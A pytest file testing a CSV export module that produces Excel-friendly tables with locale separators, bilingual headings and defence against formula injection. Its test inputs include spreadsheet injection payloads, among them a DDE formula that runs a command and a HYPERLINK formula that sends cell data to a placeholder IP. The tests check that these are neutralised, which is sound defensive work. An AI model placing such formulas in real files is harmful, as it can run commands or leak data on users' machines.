"""A table as CSV that Excel opens in columns, with nothing in it that could run."""

import csv
from datetime import date

import pytest

from tests.reports.books import DAY, a_table, texts
from wpstracker.domain.partial_date import PartialDate
from wpstracker.domain.problems import Cancelled, KnownError
from wpstracker.figures.columns import Column, Type
from wpstracker.reports.book import Report, Sum
from wpstracker.reports.cell_texts import reader
from wpstracker.reports.csv_files import write_csv
from wpstracker.words import words_for

COLUMNS = (
    Column("title", "Title", Type.TEXT),
    Column("start", "Start", Type.DATE),
    Column("women", "Women", Type.COUNT),
    Column("share", "Share", Type.SHARE),
    Column("value", "Value", Type.NUMBER),
    Column("verified", "Verified", Type.FLAG),
    Column("country", "Country", Type.COUNTRY),
)
ROW = {"title": "Дорога; „x“, y", "start": PartialDate(2023, 5, 4), "women": 1200, "share": 0.412, "value": 11.5, "verified": False}
FORMULAS = {
    "E01": "=1+1",
    "E02": "=cmd|' /C calc'!A0",
    "E03": '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
    "E04 a telephone number": "+254 700 000 000",
    "E04 a number typed as text": "-1",
    "E04 an old formula": "@SUM(A1)",
    "E06": "\t=1",
    "E07": "＝1",
}


def written(folder, sheet, language="en", languages=()):
    path = folder / "sheet.csv"
    write_csv(sheet, Report("R", "S", (sheet,), words_for(language), DAY, languages), path)
    return path


def read(path, separator=","):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=separator))


def test_values_stay_what_programs_can_read_back(tmp_path):
    path = written(tmp_path, a_table([ROW | {"country": "KZ"}], COLUMNS))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    header, row = read(path)
    assert header == ["Title", "Start", "Women", "Share", "Value", "Verified", "Country"]
    assert row == ["Дорога; „x“, y", "2023-05-04", "1200", "0.412", "11.5", "no", "Kazakhstan"]


def test_russian_excel_finds_its_own_separator_and_decimal_comma(tmp_path):
    _, row = read(written(tmp_path, a_table([ROW], COLUMNS), "ru"), ";")
    assert row == ["Дорога; „x“, y", "2023-05-04", "1200", "0,412", "11,5", "нет", ""]


def test_headings_in_both_languages_and_dates_that_are_not_days(tmp_path):
    header, row = read(written(tmp_path, a_table([{"start": PartialDate(2023, 5)}], COLUMNS[1:3]), "en", ("en", "ru")))
    assert header[1] == "Women / Женщины"
    assert row == ["May 2023", ""]


def test_tags_stand_below_the_headings_and_totals_stay_out(tmp_path):
    sheet = a_table([{"women": 3}, {"women": 4}], COLUMNS[2:3], totals={"women": Sum(7)})
    path = tmp_path / "sheet.csv"
    write_csv(sheet, Report("R", "S", (sheet,), words_for("en"), DAY, hxl=True), path)
    assert read(path) == [["Women"], ["#reached+f"], ["3"], ["4"]]


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_no_text_is_taken_for_a_formula(tmp_path, text):
    _, (cell,) = read(written(tmp_path, texts(text)))
    assert cell == f"'{text}"


def test_E05_a_negative_number_is_no_formula_and_control_characters_go(tmp_path):
    _, row = read(written(tmp_path, a_table([{"value": -2.5, "title": "a\x00b\r\nc"}], (COLUMNS[4], COLUMNS[0]))))
    assert row == ["-2.5", "a�b\nc"]


def test_a_stop_leaves_the_older_file_and_a_missing_folder_is_told(tmp_path):
    path = written(tmp_path, texts("older"))

    def stop(_share):
        raise Cancelled

    with pytest.raises(Cancelled):
        write_csv(texts("newer"), Report("R", "S", (), words_for("en"), date(2024, 1, 1)), path, stop)
    assert read(path)[1] == ["older"] and list(tmp_path.iterdir()) == [path]
    with pytest.raises(KnownError):
        written(tmp_path / "nowhere", texts("x"))


@pytest.mark.parametrize(
    ("column", "value", "english", "russian"),
    [
        (COLUMNS[1], PartialDate(2023, 5, 4), "04.05.2023", "04.05.2023"),
        (COLUMNS[1], PartialDate(2023, 5), "May 2023", "май 2023 г."),
        (COLUMNS[2], 1200, "1\u00a0200", "1\u00a0200"),
        (COLUMNS[2], "<5", "<5", "<5"),
        (COLUMNS[3], 0.412, "41 %", "41 %"),
        (COLUMNS[4], 11.5, "11.5", "11,5"),
        (COLUMNS[5], False, "no", "нет"),
        (COLUMNS[6], "KZ", "Kazakhstan", "Казахстан"),
        (COLUMNS[0], None, "", ""),
    ],
)
def test_cells_read_as_excel_shows_them(column, value, english, russian):
    assert reader(column, words_for("en"))(value).replace("\u202f", " ") == english
    said = reader(column, words_for("ru"))(value)
    assert said.startswith(russian.split(" г.")[0])
